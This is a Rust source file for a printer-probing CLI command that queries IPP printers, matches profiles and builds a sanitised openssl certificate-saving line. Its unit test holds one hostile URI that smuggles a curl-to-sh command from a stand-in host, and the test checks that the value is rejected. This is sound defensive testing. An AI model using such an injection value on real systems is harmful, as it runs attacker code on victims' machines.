//! `legitka printers probe URI`: asks an IPP printer or CUPS queue what it
//! is and what it takes (Get-Printer-Attributes), and says which printer
//! profile fits it and what is missing before the station can print there.

use anyhow::Context;
use legitka::card::profile::{PrinterProfile, Profiles};
use legitka_drivers::ipp::{self, Description};
use std::path::PathBuf;

#[derive(clap::Args)]
pub struct PrintersArgs {
    #[command(subcommand)]
    command: PrintersCommand,
}

#[derive(clap::Subcommand)]
enum PrintersCommand {
    /// Ask a printer (`ipp://HOST:631/ipp/print`, `ipp://HOST:631/printers/QUEUE`,
    /// `cups:QUEUE`) what it takes and which profile fits it.
    Probe {
        uri: String,
        /// Profiles from this directory (`printers/*.toml`) instead of the
        /// built-in set.
        #[arg(long)]
        profiles: Option<PathBuf>,
        /// For `ipps://`: the printer's own certificate (PEM), as
        /// `printer.ca_file` will name it.
        #[arg(long)]
        ca_file: Option<PathBuf>,
    },
}

/// The IPP profiles that fit, best first: those whose model words name the
/// printer, then those that only share its document format.
pub fn fitting<'a>(
    d: &Description,
    profiles: &'a Profiles,
) -> Vec<(&'a str, &'a PrinterProfile, bool)> {
    let model = d.make_and_model.to_lowercase();
    let mut out: Vec<(&str, &PrinterProfile, bool)> = profiles
        .printers
        .iter()
        .filter_map(|(name, p)| {
            let ipp = p.ipp.as_ref()?;
            if !d.formats.iter().any(|f| f == &ipp.document_format) {
                return None;
            }
            let named = ipp.models.iter().any(|m| model.contains(&m.to_lowercase()));
            (named || ipp.models.is_empty()).then_some((name.as_str(), p, named))
        })
        .collect();
    out.sort_by_key(|(name, _, named)| (!named, *name));
    out
}

pub fn run(a: PrintersArgs) -> anyhow::Result<()> {
    let PrintersCommand::Probe {
        uri,
        profiles,
        ca_file,
    } = a.command;
    let profiles = match &profiles {
        Some(d) => Profiles::load_dir(d)?,
        None => Profiles::builtin(),
    };
    let mut at = ipp::Endpoint::new(&uri);
    if let Some(f) = &ca_file {
        let pem = std::fs::read(f).with_context(|| format!("reading {}", f.display()))?;
        at = at
            .trusting(&pem)
            .with_context(|| format!("{}", f.display()))?;
    }
    let d = match ipp::describe(&at) {
        Ok(d) => d,
        // A printer's certificate is its own: say how to trust it.
        Err(e) if uri.starts_with("ipps://") && e.to_string().contains("UnknownIssuer") => {
            match &ca_file {
                Some(f) => anyhow::bail!(
                    "asking {uri}: {e}\nThe certificate in {} is not this printer's (nor its authority's). Save the printer's own:\n  {}",
                    f.display(),
                    save_certificate_line(&uri)
                ),
                None => anyhow::bail!(
                    "asking {uri}: {e}\nThe printer's certificate is self-signed. Save it (and compare its fingerprint with the one on the printer's own page or panel):\n  {}\nthen probe again with --ca-file printer.pem and set printer.ca_file to it.",
                    save_certificate_line(&uri)
                ),
            }
        }
        Err(e) if uri.starts_with("ipps://") && e.to_string().contains("not valid for name") => {
            anyhow::bail!(
                "asking {uri}: {e}\nThe printer's certificate names other hosts: write one of the names it is valid for in the URI (and in printer.uri)."
            )
        }
        Err(e) => return Err(e).with_context(|| format!("asking {uri}")),
    };
    println!(
        "printer:      {}",
        if d.make_and_model.is_empty() {
            "(no printer-make-and-model)"
        } else {
            &d.make_and_model
        }
    );
    let status = ipp::status_of(&d);
    println!(
        "state:        {:?}{} (printer-state-reasons: {})",
        status.state,
        status.detail.map(|c| format!(", {c}")).unwrap_or_default(),
        if d.reasons.is_empty() {
            "none".into()
        } else {
            d.reasons.join(", ")
        }
    );
    println!("takes:        {}", d.formats.join(", "));
    if !d.media.is_empty() {
        println!("media:        {}", d.media.join(", "));
    }
    if let Some(p) = &d.error_policy {
        println!("error policy: {p}");
    }
    let fits = fitting(&d, &profiles);
    let mut missing = Vec::new();
    match fits.first() {
        Some((name, _, named)) => {
            println!(
                "profile:      {name}{}",
                if *named { " (it names this printer)" } else { " (by its document format only: check one card)" }
            );
            for (other, _, _) in fits.iter().skip(1) {
                println!("also fits:    {other}");
            }
        }
        None => missing.push(
            "no profile fits: the printer takes neither image/pwg-raster nor application/vnd.cups-raster; put a CUPS queue with the vendor's driver in front of it".to_string(),
        ),
    }
    if d.retries_jobs() {
        missing.push(format!(
            "the queue sends a failed job again, which can print a card twice (the station refuses it): {}",
            ipp::abort_policy_fix(&ipp::resolve(&uri))
        ));
    }
    if !status.can_print() {
        missing.push(format!("the printer cannot print now ({:?})", status.state));
    }
    if missing.is_empty() {
        println!(
            "missing:      nothing; set printer.uri = {uri:?} and printer.profile = {:?}",
            fits[0].0
        );
    }
    for m in &missing {
        println!("missing:      {m}");
    }
    Ok(())
}

/// The line that saves an `ipps://` printer's certificate and shows its
/// fingerprint.
fn save_certificate_line(uri: &str) -> String {
    let host_port = uri
        .trim_start_matches("ipps://")
        .split('/')
        .next()
        .unwrap_or_default();
    // The line is pasted into a shell: a host of anything but a host
    // name's letters is not written into it.
    if !host_port
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || ".-:[]".contains(c))
    {
        return "openssl s_client -connect HOST:PORT </dev/null 2>/dev/null | openssl x509 > printer.pem && openssl x509 -in printer.pem -noout -fingerprint -sha256".into();
    }
    let host_port = if host_port.contains(':') && !host_port.ends_with(']') {
        host_port.to_string()
    } else {
        format!("{host_port}:631")
    };
    format!(
        "openssl s_client -connect {host_port} </dev/null 2>/dev/null | openssl x509 > printer.pem && openssl x509 -in printer.pem -noout -fingerprint -sha256"
    )
}

#[cfg(test)]
mod tests {
    use super::save_certificate_line;

    #[test]
    fn the_certificate_line_names_the_port_and_nothing_a_shell_would_run() {
        assert!(save_certificate_line("ipps://printer.lan/ipp/print")
            .starts_with("openssl s_client -connect printer.lan:631 "));
        assert!(save_certificate_line("ipps://[fd00::5]:8631/ipp/print")
            .starts_with("openssl s_client -connect [fd00::5]:8631 "));
        let hostile = save_certificate_line("ipps://x;curl${IFS}evil|sh/ipp/print");
        assert!(
            hostile.contains("HOST:PORT") && !hostile.contains("curl"),
            "{hostile}"
        );
    }
}
